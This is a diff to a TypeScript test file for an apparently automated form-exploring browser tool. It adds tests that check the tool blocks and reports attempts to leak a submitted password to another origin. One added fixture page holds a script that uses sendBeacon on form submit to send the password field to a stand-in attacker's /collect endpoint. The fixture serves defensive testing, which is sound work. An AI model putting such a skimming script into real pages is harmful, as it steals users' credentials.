@@ -1,3 +1,5 @@
+import { createServer, type Server } from "node:http"
+import type { AddressInfo } from "node:net"
 import { type AttackerOrigin, type FixtureSite, startAttackerOrigin } from "@sextant/fixture-site"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
 import {
@@ -24,14 +26,37 @@ const EMAIL = "alice@example.com"
 const PASSWORD = "open sesame+42&x"
 let site: FixtureSite
 let attacker: AttackerOrigin
+/** A sign-in page on its own origin that posts to itself, and beacons the password to the attacker on submit. */
+let beaconing: { url: string; server: Server }
 
 beforeAll(async () => {
   site = await browser.site()
   attacker = await startAttackerOrigin()
+  const page = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Sign in</title></head><body>
+<h1>Sign in</h1>
+<form method="post" action="/signed-in" aria-label="Sign in" id="login-form">
+<label for="email">Email</label><input type="email" name="email" id="email" autocomplete="username" required>
+<label for="password">Password</label><input type="password" name="password" id="password" autocomplete="current-password" required>
+<p><button type="submit" id="login-btn">Sign in</button></p>
+</form>
+<script>
+// The form itself posts home (no form-action policy stops it); the beacon carries the password away.
+document.querySelector("#login-form").addEventListener("submit", () => {
+  navigator.sendBeacon(${JSON.stringify(`${attacker.url}/collect`)}, document.querySelector("#password").value)
+})
+</script></body></html>`
+  const server = createServer((request, response) => {
+    response.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" })
+    response.end(request.url === "/signed-in" ? "<h1>Signed in</h1>" : page)
+  })
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", () => resolve()))
+  beaconing = { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, server }
 })
 
 afterAll(async () => {
   await attacker?.close()
+  beaconing?.server.closeAllConnections()
+  await new Promise<void>((resolve) => (beaconing ? beaconing.server.close(() => resolve()) : resolve()))
 })
 
 /** Every spelling a request, a file or an event could carry `value` in. */
@@ -113,7 +138,49 @@ describe("explore with submitForms and a password", () => {
     expect(requests.filter((request) => holds(JSON.stringify(request)))).toEqual([])
     expect(requests.map((request) => `${request.method} ${request.url}`)).not.toContain("POST /collect")
     expect(map.pages.every((page) => !page.url.startsWith(attacker.url))).toBe(true)
-    expect(map.skipped.some((entry) => entry.reason.includes("<secret:Password>"))).toBe(true)
+    expect(
+      map.skipped.some(
+        (entry) =>
+          entry.reason.includes("<secret:Password>") &&
+          (entry.reason.includes(`request to ${attacker.url}`) || entry.reason.includes("form-action")),
+      ),
+    ).toBe(true)
+    expect(holds(artefacts(map, events))).toBe(false)
+  }, 60_000)
+
+  it("does not let a submit handler swap the site's own form action to another origin", async () => {
+    const { map, events, requests } = await exploreOnce(hostile("/hostile/swap-action"), {
+      Email: EMAIL,
+      Password: PASSWORD,
+    })
+    expect(requests.filter((request) => holds(JSON.stringify(request)))).toEqual([])
+    expect(requests.map((request) => `${request.method} ${request.url}`)).not.toContain("POST /collect")
+    expect(map.pages.every((page) => !page.url.startsWith(attacker.url))).toBe(true)
+    // Refused by the page's form-action policy or blocked by the request guard: either way it is said.
+    expect(
+      map.skipped.some(
+        (entry) =>
+          entry.reason.includes("<secret:Password>") &&
+          (entry.reason.includes(`request to ${attacker.url}`) || entry.reason.includes("form-action")),
+      ),
+    ).toBe(true)
+    expect(holds(artefacts(map, events))).toBe(false)
+  }, 60_000)
+
+  it("blocks a beacon that carries the password to another origin when the form is submitted, and says so", async () => {
+    const { map, events, requests } = await exploreOnce(`${beaconing.url}/`, {
+      Email: EMAIL,
+      Password: PASSWORD,
+    })
+    expect(requests.filter((request) => holds(JSON.stringify(request)))).toEqual([])
+    expect(
+      map.skipped.some((entry) =>
+        entry.reason.includes(
+          `request to ${attacker.url} carrying <secret:Password> in its body was blocked`,
+        ),
+      ),
+    ).toBe(true)
+    expect(events.filter((event) => event.type === "form-submit")).toEqual([])
     expect(holds(artefacts(map, events))).toBe(false)
   }, 60_000)
 
